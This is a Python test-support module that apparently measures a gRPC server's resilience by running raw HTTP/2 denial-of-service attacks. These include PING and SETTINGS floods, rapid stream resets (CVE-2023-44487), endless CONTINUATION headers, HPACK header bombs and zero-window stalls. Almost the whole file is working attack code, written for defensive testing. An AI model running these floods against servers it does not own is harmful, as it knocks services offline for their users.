"""Raw HTTP/2 attacks: the cost of a connection to a gRPC server before any call is processed.

Each attack opens connections, sends its frames, and keeps the connections open until ``close``. A server that closes
connections or stops reading has defended itself: the attack then ends without an error.
"""

from __future__ import annotations

import itertools
import struct
import time
from collections.abc import Iterator, Sequence

import h2.config
import h2.connection
import h2.events
import hpack

from tests.support.attacks.wire import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    FRAME_BYTES,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    MIB,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    Attack,
    Connection,
    call_headers,
    chunks,
    frame,
    message,
)


def unread_pings(address: str, *, connections: int = 1, size: int = 40 * MIB) -> Attack:
    """Send PINGs and never read the acknowledgements."""
    attack, ping = Attack(), frame(PING, 0, 0, b"12345678")
    for _ in range(connections):
        attack.open(address).flood(itertools.repeat(ping, size // len(ping)))
    return attack


def settings_flood(address: str, *, connections: int = 1, size: int = 40 * MIB) -> Attack:
    """Send SETTINGS frames and never read the acknowledgements."""
    attack, settings = Attack(), frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535))
    for _ in range(connections):
        attack.open(address).flood(itertools.repeat(settings, size // len(settings)))
    return attack


def empty_frames(address: str, path: str, *, size: int = 20 * MIB) -> Attack:
    """Send empty DATA frames."""
    attack = Attack()
    connection = attack.open(address)
    stream, headers = connection.call(path)
    connection.send(headers)
    empty = frame(DATA, 0, stream)
    connection.flood(itertools.repeat(empty, size // len(empty)))
    return attack


def priority_flood(address: str, *, size: int = 20 * MIB) -> Attack:
    """Send PRIORITY frames for streams that never open."""
    attack = Attack()
    connection = attack.open(address)
    streams = itertools.cycle(range(1, 2**20, 2))
    connection.flood(frame(PRIORITY, 0, next(streams), b"\0\0\0\0\x10") for _ in range(size // 14))
    return attack


def rapid_resets(address: str, path: str, *, connections: int = 1, calls: int = 100_000) -> Attack:
    """Cancel calls right after their start (CVE-2023-44487)."""
    attack, cancel = Attack(), struct.pack(">I", CANCEL)
    for _ in range(connections):
        connection = attack.open(address)

        def resets(connection: Connection = connection) -> Iterator[bytes]:
            for _ in range(calls):
                stream, headers = connection.call(path, end=True)
                yield headers + frame(RST_STREAM, 0, stream, cancel)

        connection.flood(resets())
    return attack


def unfinished_messages(
    address: str,
    path: str,
    *metadata: tuple[str, str],
    connections: int = 1,
    streams: int = 100,
    size: int = 4 * MIB,
    seconds: float = 5.0,
) -> Attack:
    """Send messages without their last byte, on as many streams and as fast as the server allows."""
    attack = Attack()
    writers = [
        _Unfinished(attack.open(address, preface=False), path, metadata, streams, size) for _ in range(connections)
    ]
    until = time.monotonic() + seconds
    while writers and time.monotonic() < until:
        writers = [writer for writer in writers if writer.go_on()]
    return attack


class _Unfinished:
    """Compliant HTTP/2 client on one connection whose messages all lack their last byte."""

    def __init__(
        self, connection: Connection, path: str, metadata: Sequence[tuple[str, str]], streams: int, size: int
    ) -> None:
        self._wire = connection
        self._wire.socket.settimeout(0.01)
        self._http2 = h2.connection.H2Connection(h2.config.H2Configuration(validate_outbound_headers=False))
        self._http2.initiate_connection()
        self._left: dict[int, int] = {}
        self._streams, self._size, self._path, self._metadata = streams, size, path, metadata

    def go_on(self) -> bool:
        """Send as much as the windows allow; return False if the server has closed the connection."""
        try:
            data = self._wire.socket.recv(MIB)
        except TimeoutError:
            data = None
        except OSError:
            return False
        if data == b"":
            return False
        if data:
            for event in self._http2.receive_data(data):
                if isinstance(event, h2.events.StreamReset | h2.events.StreamEnded):
                    self._left.pop(event.stream_id or 0, None)
        while self._streams and self._http2.open_outbound_streams < self._http2.remote_settings.max_concurrent_streams:
            self._open()
        for stream in tuple(self._left):
            self._push(stream)
        return self._wire.send(self._http2.data_to_send())

    def _open(self) -> None:
        self._streams -= 1
        stream = self._http2.get_next_available_stream_id()
        self._http2.send_headers(stream, call_headers(self._path, self._metadata))
        self._http2.send_data(stream, message(b"", length=self._size))
        self._left[stream] = self._size - 1

    def _push(self, stream: int) -> None:
        while self._left[stream]:
            window = min(self._http2.local_flow_control_window(stream), self._left[stream], FRAME_BYTES)
            if window <= 0:
                return
            self._http2.send_data(stream, bytes(window))
            self._left[stream] -= window


def endless_headers(address: str, path: str, *, connections: int = 1, size: int = 40 * MIB) -> Attack:
    """Send a header block that never ends: CONTINUATION after CONTINUATION."""
    attack = Attack()
    for _ in range(connections):
        connection = attack.open(address)
        stream = connection.next_stream()
        value = "v" * 8000
        encoder = hpack.Encoder()
        encoder.header_table_size = 0
        block = encoder.encode([(f"x-{number}", value) for number in range(2)], huffman=False)
        first = frame(HEADERS, 0, stream, connection.headers(path))
        more = frame(CONTINUATION, 0, stream, block)
        connection.flood(itertools.chain((first,), itertools.repeat(more, size // len(more))))
    return attack


def header_bombs(address: str, path: str, *, connections: int = 1, calls: int = 1000, times: int = 4000) -> Attack:
    """Make calls whose headers refer to one large table entry many times, with one byte per reference."""
    attack = Attack()
    for _ in range(connections):
        connection = attack.open(address)
        encoder = hpack.Encoder()
        for _ in range(calls):
            stream = connection.next_stream()
            large = ("x-large", "v" * 3900)
            block = encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "s")])
            block += encoder.encode([("te", "trailers"), ("content-type", "application/grpc"), large])
            block += encoder.encode([large]) * times
            if not connection.send(frame(HEADERS, END_HEADERS, stream, block[:FRAME_BYTES])):
                break
    return attack


def endless_bomb(address: str, path: str, *, connections: int = 1, size: int = 8 * MIB) -> Attack:
    """Send a header block that never ends; each byte refers to one large table entry."""
    attack, large = Attack(), ("x-large", "v" * 3900)
    for _ in range(connections):
        connection = attack.open(address)
        stream = connection.next_stream()
        encoder = hpack.Encoder()
        first = encoder.encode([*call_headers(path), large])
        more = frame(CONTINUATION, 0, stream, encoder.encode([large]) * FRAME_BYTES)
        connection.flood(
            itertools.chain((frame(HEADERS, 0, stream, first),), itertools.repeat(more, size // FRAME_BYTES))
        )
    return attack


def open_calls(
    address: str, path: str, *metadata: tuple[str, str], connections: int = 1, streams: int = 1000
) -> Attack:
    """Make calls and never send their messages."""
    attack = Attack()
    for _ in range(connections):
        connection = attack.open(address)
        connection.flood(connection.call(path, *metadata)[1] for _ in range(streams))
    return attack


def closed_windows(
    address: str, path: str, requests: Sequence[bytes], *metadata: tuple[str, str], connections: int = 1
) -> Attack:
    """Make calls whose responses the server must not send, because each stream has a window of 0 bytes."""
    attack = Attack()
    for _ in range(connections):
        connection = attack.open(address, {INITIAL_WINDOW_SIZE: 0})

        def calls(connection: Connection = connection) -> Iterator[bytes]:
            for request in requests:
                stream, headers = connection.call(path, *metadata)
                yield b"".join((headers, *chunks(stream, message(request), end=True)))

        connection.flood(calls())
    return attack


def idle_connections(address: str, *, connections: int, preface: bool) -> Attack:
    """Open connections and send nothing, or only the HTTP/2 preface."""
    attack = Attack()
    for _ in range(connections):
        try:
            attack.open(address, preface=preface)
        except OSError:
            attack.refused += 1
    return attack
